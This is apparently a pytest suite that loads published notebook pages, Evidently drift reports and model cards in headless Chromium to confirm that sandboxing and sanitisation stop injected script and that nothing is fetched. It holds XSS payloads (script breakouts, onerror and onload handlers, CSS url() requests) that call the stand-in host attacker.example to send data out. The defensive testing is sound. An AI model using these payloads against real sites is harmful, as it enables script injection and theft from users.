"""Pages and frames in headless Chromium: what runs, what is fetched, what does not fit."""

import http.server
import itertools
import json
import re
import shutil
import subprocess
import threading
import time
import urllib.request
import warnings

import pytest
from test_publish_cards import CURVE, EXPLANATION, FIGURES, IMPORTANCE, SLICE, findings, owner_writes
from test_publish_models import CARD, GATE_RUN, LIST, PAGE, Shop, check

from mlnb.publish.frames import render_report, viewer, viewer_name
from mlnb.publish.ledger import Ledger
from mlnb.publish.pages import Facts, ShownArtifact, render

CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
pytestmark = pytest.mark.skipif(
    CHROMIUM is None, reason="chromium is not installed: apt-get install chromium"
)
FLAGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--disable-dev-shm-usage",
    "--remote-debugging-port=0",
    "--remote-allow-origins=*",
]
HOSTILE = (
    "</script><img src=x "
    "onerror=window.attacked=1;document.title=`attacked`;fetch(`http://attacker.example/stolen`)>"
)


class Browser:
    """A Chromium spoken to by its debugging protocol; every network request goes through a proxy that logs
    and refuses it."""

    def __init__(self, folder):
        websocket = pytest.importorskip("websocket", reason="websocket-client is not installed")
        self.asked = []
        asked = self.asked

        class Refuse(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                asked.append(self.path)
                self.send_error(404)

            do_CONNECT = do_POST = do_HEAD = do_OPTIONS = do_GET

            def log_message(self, *args):
                pass

        self.proxy = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Refuse)
        self.thread = threading.Thread(target=self.proxy.serve_forever)
        self.thread.start()
        proxy = [
            f"--proxy-server=127.0.0.1:{self.proxy.server_port}",
            "--proxy-bypass-list=<-loopback>",
            f"--user-data-dir={folder}",
        ]
        self.process = subprocess.Popen(
            [CHROMIUM, *FLAGS, *proxy, "about:blank"], stderr=subprocess.PIPE, text=True
        )
        port = next(
            m[1]
            for line in self.process.stderr
            if (m := re.search(r"listening on ws://127\.0\.0\.1:(\d+)", line))
        )
        threading.Thread(target=self.process.stderr.read, daemon=True).start()
        with urllib.request.build_opener(urllib.request.ProxyHandler({})).open(
            f"http://127.0.0.1:{port}/json"
        ) as reply:
            tab = next(t for t in json.load(reply) if t["type"] == "page")
        self.timeout = websocket.WebSocketTimeoutException
        self.socket = websocket.create_connection(
            tab["webSocketDebuggerUrl"], timeout=30, http_no_proxy=["127.0.0.1"]
        )
        self.numbers = itertools.count(1)
        self.contexts, self.requests, self.messages = {}, [], []
        for method in ("Runtime", "Log", "Network", "Page"):
            self.call(f"{method}.enable")
        self.call("Target.setAutoAttach", autoAttach=True, waitForDebuggerOnStart=True, flatten=True)

    def send(self, method, session=None, **parameters):
        number = next(self.numbers)
        self.socket.send(
            json.dumps(
                {"id": number, "method": method, "params": parameters}
                | ({"sessionId": session} if session else {})
            )
        )
        return number

    def heard(self, event):
        about, session = event.get("params", {}), event.get("sessionId")
        match event.get("method"):
            case "Runtime.executionContextCreated":
                self.contexts[session, about["context"]["id"]] = about["context"]["auxData"].get("frameId")
            case "Runtime.executionContextDestroyed":
                self.contexts.pop((session, about["executionContextId"]), None)
            case "Runtime.executionContextsCleared":
                self.contexts = {k: v for k, v in self.contexts.items() if k[0] != session}
            case "Network.requestWillBeSent":
                self.requests.append(about["request"]["url"])
            case "Log.entryAdded":
                self.messages.append(about["entry"]["text"])
            case "Runtime.exceptionThrown":
                self.messages.append(about["exceptionDetails"]["text"])
            case "Target.attachedToTarget":
                for method in (
                    "Runtime.enable",
                    "Log.enable",
                    "Network.enable",
                    "Runtime.runIfWaitingForDebugger",
                ):
                    self.send(method, about["sessionId"])

    def call(self, method, session=None, **parameters):
        number = self.send(method, session, **parameters)
        while (event := json.loads(self.socket.recv())).get("id") != number:
            self.heard(event)
        return event.get("result", {})

    def open(self, url, width=1280):
        self.contexts.clear(), self.requests.clear(), self.messages.clear(), self.asked.clear()
        self.call(
            "Emulation.setDeviceMetricsOverride", width=width, height=900, deviceScaleFactor=1, mobile=False
        )
        self.call("Page.navigate", url=url)
        self.until("document.readyState == 'complete'")

    def everywhere(self, expression):
        "Values of an expression in the page and all its frames."
        self.call("Runtime.evaluate", expression="1")
        found = []
        for session, context in list(self.contexts):
            answer = self.call(
                "Runtime.evaluate", session, contextId=context, expression=expression, returnByValue=True
            )
            found.append(answer.get("result", {}).get("value"))
        return found

    def until(self, expression, seconds=20):
        "Wait until an expression is true in the page or one of its frames."
        end = time.monotonic() + seconds
        while True not in self.everywhere(expression):
            assert time.monotonic() < end, f"never true: {expression}; {self.messages}"
            time.sleep(0.05)

    def fetched(self):
        "What the page and its frames asked of a network."
        return [u for u in self.requests if not u.startswith(("file:", "data:", "blob:"))] + [
            u for u in self.asked if "attacker" in u
        ]

    def close(self):
        self.socket.close()
        self.process.kill()
        self.process.wait()
        self.process.stderr.close()
        self.proxy.shutdown()
        self.thread.join()
        self.proxy.server_close()


@pytest.fixture(scope="session")
def browser(tmp_path_factory):
    browser = Browser(tmp_path_factory.mktemp("chromium"))
    yield browser
    browser.close()


@pytest.fixture(scope="session")
def report_html():
    "A report that Evidently itself wrote, about data with a hostile category."
    with warnings.catch_warnings(), pytest.MonkeyPatch.context() as patch:
        warnings.simplefilter("ignore")
        patch.setenv("DO_NOT_TRACK", "1")
        import numpy as np
        import pandas as pd
        from evidently import Report
        from evidently.presets import DataDriftPreset

        random = np.random.default_rng(0)

        def window(shift):
            names = ["DE", HOSTILE, "<!--<script>", "a&b\u2028c"]
            return pd.DataFrame(
                {"amount": random.gamma(2, 50 + shift, 500), "country": random.choice(names, 500)}
            )

        return Report([DataDriftPreset()]).run(window(20), window(0)).get_html_str(as_iframe=False)


@pytest.fixture(scope="session")
def site(tmp_path_factory, report_html):
    "A folder with the report's page and viewer, and the report as Evidently wrote it."
    folder = tmp_path_factory.mktemp("site")
    (folder / "assets").mkdir()
    (folder / "runs").mkdir()
    page, needs_viewer = render_report(
        report_html, "Drift report", [("index", "../index.html"), ("drift", None)], "../assets"
    )
    assert needs_viewer
    (folder / "assets" / viewer_name()).write_text(viewer(), encoding="utf-8")
    (folder / "runs" / "drift.html").write_text(page, encoding="utf-8")
    (folder / "bare.html").write_text(report_html, encoding="utf-8")
    return folder


def test_unprotected_attack_runs_and_is_seen_by_the_log(browser, site):
    browser.open((site / "bare.html").as_uri())
    browser.until("window.attacked === 1")
    browser.until("document.title == 'attacked'")
    assert any("attacker.example" in url for url in browser.fetched())


def test_report_is_drawn_in_its_sandbox_and_the_attack_does_not_run(browser, site):
    browser.open((site / "runs" / "drift.html").as_uri())
    browser.until(
        "document.body.innerText.includes('Dataset Drift') && document.querySelectorAll('svg').length > 3"
    )
    assert browser.everywhere("window.attacked === undefined") == [True, True]
    assert sorted(browser.everywhere("document.title")) == ["Drift report", "Report"]
    assert browser.everywhere("document.querySelectorAll('img[onerror], [src=x]').length") == [0, 0]
    assert set(browser.everywhere("window.origin")) == {"null"}
    assert browser.fetched() == []
    assert sorted(u.rsplit("/", 1)[1] for u in browser.requests if u.startswith("file:")) == [
        "drift.html",
        viewer_name(),
    ]


def test_sandbox_refuses_storage_the_parent_and_every_way_out(browser, site):
    browser.open((site / "runs" / "drift.html").as_uri())
    browser.until("document.body.innerText.includes('Dataset Drift')")
    tries = """(async () => {
      if (window.top === window) return "page";
      const tried = {};
      for (const [name, act] of Object.entries({
        storage: () => localStorage.length, cookie: () => document.cookie,
        parent: () => parent.document.title,
        fetch: () => fetch("http://attacker.example/fetch"), eval: () => eval("1"),
        script: () => new Promise((yes, no) => {
          const s = document.createElement("script"); s.text = "window.ran = 1"; document.body.append(s);
          window.ran ? yes() : no("blocked");
        }),
        handler: () => new Promise((yes, no) => {
          const i = document.createElement("div"); i.innerHTML = "<img src=x onerror='window.ran=1'>";
          document.body.append(i); setTimeout(() => window.ran ? yes() : no("blocked"), 200);
        }),
        image: () => new Promise((yes, no) => {
          const i = new Image(); i.onload = yes; i.onerror = no; i.src = "http://attacker.example/pixel";
        }),
      })) { try { await act(); tried[name] = "worked"; } catch { tried[name] = "refused"; } }
      setTimeout(() => { location.href = "http://attacker.example/navigate"; }, 50);
      return JSON.stringify(tried);
    })()"""
    answers = []
    for session, context in list(browser.contexts):
        answers.append(
            browser.call(
                "Runtime.evaluate",
                session,
                contextId=context,
                expression=tries,
                awaitPromise=True,
                returnByValue=True,
                allowUnsafeEvalBlockedByCSP=False,
            )["result"].get("value")
        )
    tried = json.loads(next(a for a in answers if a != "page"))
    assert tried == dict.fromkeys(
        ("storage", "cookie", "parent", "fetch", "eval", "script", "handler", "image"), "refused"
    )
    time.sleep(0.5)
    assert [u for u in browser.asked if "attacker" in u] == []


def test_viewer_opened_by_itself_shows_a_sentence_and_no_data(browser, site):
    browser.open((site / "assets" / viewer_name()).as_uri())
    browser.until("document.body.innerText.includes('open the report beside it')")
    assert browser.fetched() == []


FORMULAS = r"""# T
\begin{align} a + b + c &= \frac{1}{2} \\ d &= e \end{align}

$$\begin{pmatrix}1\\2\\3\end{pmatrix} \quad \color{red}{x} \text{<img src=x onerror=window.attacked=1>}$$

\begin{equation} x \tag{7} \end{equation}

$$ LONG $$""".replace("LONG", " + ".join(f"x_{{{i}}}" for i in range(99)))
MEASURE = """(() => {
  const boxes = (selector) => [...document.querySelectorAll(selector)].map((e) => e.getBoundingClientRect());
  const [above, below] = boxes("mfrac > *"), rows = boxes("mtable")[0];
  const ends = boxes("mtr > mtd.r").map((box) => box.right), number = boxes("mtd.half.r")[0];
  const bracket = boxes("mo").find((box) => box.height > 45), width = document.documentElement.clientWidth;
  return JSON.stringify([above.bottom <= below.top, Math.abs(ends[0] - ends[1]) < 1, !!bracket,
    getComputedStyle(document.querySelector("[mathcolor]")).color,
    boxes("mtable.full")[0].right - number.right < 5,
    document.documentElement.scrollWidth <= width, window.attacked === undefined]);
})()"""


@pytest.mark.parametrize("width", [1280, 390])
def test_formulas_are_drawn_aligned_and_fit(browser, tmp_path, width):
    notebook = {"cells": [{"cell_type": "markdown", "source": FORMULAS, "metadata": {}}]}
    (tmp_path / "page.html").write_text(render(notebook, Facts("fraud", "train", "committed")), "utf-8")
    browser.open((tmp_path / "page.html").as_uri(), width)
    found = [json.loads(value) for value in browser.everywhere(MEASURE)]
    assert found == [[True, True, True, "rgb(255, 0, 0)", True, True, True]]
    assert browser.fetched() == [] and browser.messages == []


@pytest.mark.parametrize("width", [1280, 390])
def test_page_fits_its_window_runs_nothing_and_asks_for_nothing(browser, tmp_path, width):
    row = "".join(f"<td>column {i} {HOSTILE}</td>" for i in range(40))
    outputs = [
        {
            "output_type": "display_data",
            "metadata": {},
            "data": {"text/html": f"<table class='dataframe'><tr>{row}</tr></table>"},
        },
        {
            "output_type": "display_data",
            "metadata": {},
            "data": {
                "image/svg+xml": (
                    "<svg xmlns='http://www.w3.org/2000/svg' width='2000' "
                    "height='10'><script>top.attacked=1</script></svg>"
                )
            },
        },
        {"output_type": "stream", "name": "stdout", "text": "x" * 2000},
    ]
    cells = [
        {
            "cell_type": "markdown",
            "source": f"# Title {HOSTILE}\n\n{'verylongword' * 40} and $x^2$",
            "metadata": {},
        },
        {"cell_type": "code", "source": "y = '" + "long" * 200 + "'", "metadata": {}, "outputs": outputs},
    ]
    facts = Facts(
        "fraud",
        "train",
        "committed",
        run="20261123T152237483-4f2a",
        parameters={"p": "v" * 300},
        metrics={"a_very_long_name_of_a_metric_" * 3: 1.5},
        outputs={"model": ShownArtifact("ab" * 32, "sklearn.pipeline.Pipeline", 1)},
    )
    (tmp_path / "page.html").write_text(render({"cells": cells}, facts), encoding="utf-8")
    browser.open((tmp_path / "page.html").as_uri(), width)
    assert browser.everywhere("document.scrollingElement.scrollWidth <= innerWidth") == [True]
    assert browser.everywhere("getComputedStyle(document.querySelector('.state')).borderRadius") == ["16px"]
    assert browser.everywhere(
        "[...document.images].every(i => i.complete && (i.naturalWidth > 0 || !i.src))"
    ) == [True]
    assert browser.everywhere("window.attacked === undefined") == [True]
    assert browser.fetched() == [] and browser.messages == []


@pytest.mark.parametrize("width", [1280, 390])
def test_page_with_pictures_colours_and_notes_shows_them_and_nothing_acts(browser, tmp_path, width):
    dot = "data:image/gif;base64,R0lGODlhAQABAAAAACw="
    attack = f"<svg onload='top.attacked=1'><script>top.attacked=1</script></svg>{HOSTILE}"
    styled = (
        "<style>#T_1_row0_col0 {background-color: rgb(255, 0, 0); color: white; position: fixed}"
        "body, main {display: none; background: url(http://attacker.example/style)}</style>"
        f"<table id='T_1'><tr><td id='T_1_row0_col0'>1 {attack}</td>{'<td>wide wide</td>' * 60}</tr></table>"
    )
    boxes = (
        "<div class='sk-top-container'><div class='sk-item'><div class='sk-label'><label>Model</label></div>"
    )
    boxes += "<div class='sk-parallel'>" + "<div class='sk-item'><label>A long step</label></div>" * 30
    bundles = [{"text/html": html} for html in (styled, boxes, attack, "<b style='width: 9999px'>b</b>")]
    bundles.append(
        {"application/vnd.plotly.v1+json": {}, "text/html": f"<script>top.attacked=1</script>{attack}"}
    )
    outputs = [{"output_type": "display_data", "metadata": {}, "data": data} for data in bundles]
    cells = [
        {
            "cell_type": "markdown",
            "source": f"# T\n\n![a](plan.gif) ![](http://attacker.example/b) [c](#d)\n\n{attack}\n\n### d",
            "metadata": {},
        },
        {"cell_type": "code", "source": "x", "metadata": {}, "outputs": outputs},
    ]
    ledger = Ledger(
        lambda address: (dot, "") if address == "plan.gif" else ("", "it is gone"), lambda _: ("#sub-1", "")
    )
    ledger.linked = {"sub-1"}
    page = render({"cells": cells}, Facts("fraud", "train", "committed"), None, ledger)
    (tmp_path / "page.html").write_text(page, encoding="utf-8")
    browser.open((tmp_path / "page.html").as_uri(), width)
    assert browser.everywhere("getComputedStyle(document.querySelector('td')).backgroundColor") == [
        "rgb(255, 0, 0)"
    ]
    assert browser.everywhere("getComputedStyle(document.querySelector('td')).position") == ["static"]
    assert browser.everywhere("getComputedStyle(document.querySelector('main')).display") == ["block"]
    assert browser.everywhere("getComputedStyle(document.querySelector('.gone')).borderStyle") == ["dashed"]
    assert browser.everywhere("getComputedStyle(document.querySelector('.beside')).display") == ["flex"]
    assert browser.everywhere("document.scrollingElement.scrollWidth <= innerWidth") == [True]
    assert browser.everywhere("[...document.images].every(i => i.complete && i.src.startsWith('data:'))") == [
        True
    ]
    assert browser.everywhere(
        "document.querySelector(document.querySelector('article a').hash).innerText"
    ) == ["d"]
    assert browser.everywhere("window.attacked === undefined && document.title.startsWith('T')") == [True]
    assert browser.fetched() == [] and browser.messages == []


@pytest.mark.slow
@pytest.mark.parametrize("width", [1280, 390])
def test_pages_of_models_and_gates_fit_run_nothing_and_keep_their_style(browser, tmp_path, width):
    shop = Shop(tmp_path / "shop")
    shop.register(*range(1, 4), actor="anna" * 40, reason=HOSTILE)
    shop.gate(3, [check(f"average_precision_{n}", "fail", reason=HOSTILE * 5) for n in range(9)], "refused")
    shop.say(2, "revoked", reason="w" * 500, actor=HOSTILE)
    shop.promote(2, HOSTILE)
    shop.publish()
    for path in ("index.html", LIST, PAGE, f"fraud_gate/{GATE_RUN}/index.html"):
        browser.open((shop.project.reports / path).as_uri(), width)
        assert browser.everywhere("document.scrollingElement.scrollWidth <= innerWidth") == [True], path
        assert browser.everywhere("window.attacked === undefined") == [True]
        assert (browser.fetched(), browser.messages) == ([], []), path


@pytest.mark.slow
@pytest.mark.parametrize("media", ["screen", "print"])
@pytest.mark.parametrize("width", [1280, 390])
def test_card_fits_runs_nothing_and_keeps_its_style(browser, tmp_path, width, media):
    shop = Shop(tmp_path / "shop")
    shop.register(1, actor="anna" * 40, reason=HOSTILE, metrics={"roc_auc" + "_x" * 30: 0.5})
    names = ["w" * 190, HOSTILE, "amount"]
    told = EXPLANATION | {"importance": [IMPORTANCE | {"name": name} for name in names]}
    told |= {"partial_dependence": [CURVE | {"name": name, "at": [name, "b", "c"]} for name in names]}
    findings(shop, slices=[SLICE | FIGURES | {"slice": name} for name in names], explanation=told)
    owner_writes(
        shop, f"## Who uses it\n{HOSTILE}\n\n{'w' * 400}\n\n| a | b |\n| --- | --- |\n| {'c ' * 90} | d |"
    )
    shop.promote(1, HOSTILE)
    shop.publish()
    browser.open((shop.project.reports / CARD).as_uri(), width)
    browser.call("Emulation.setEmulatedMedia", media=media)
    assert browser.everywhere("document.scrollingElement.scrollWidth <= innerWidth") == [True]
    assert browser.everywhere("getComputedStyle(document.querySelector('svg .span')).strokeWidth") == ["3px"]
    assert browser.everywhere("[...document.images].every(i => i.complete)") == [True]
    assert browser.everywhere("window.attacked === undefined") == [True]
    assert (browser.fetched(), browser.messages) == ([], [])
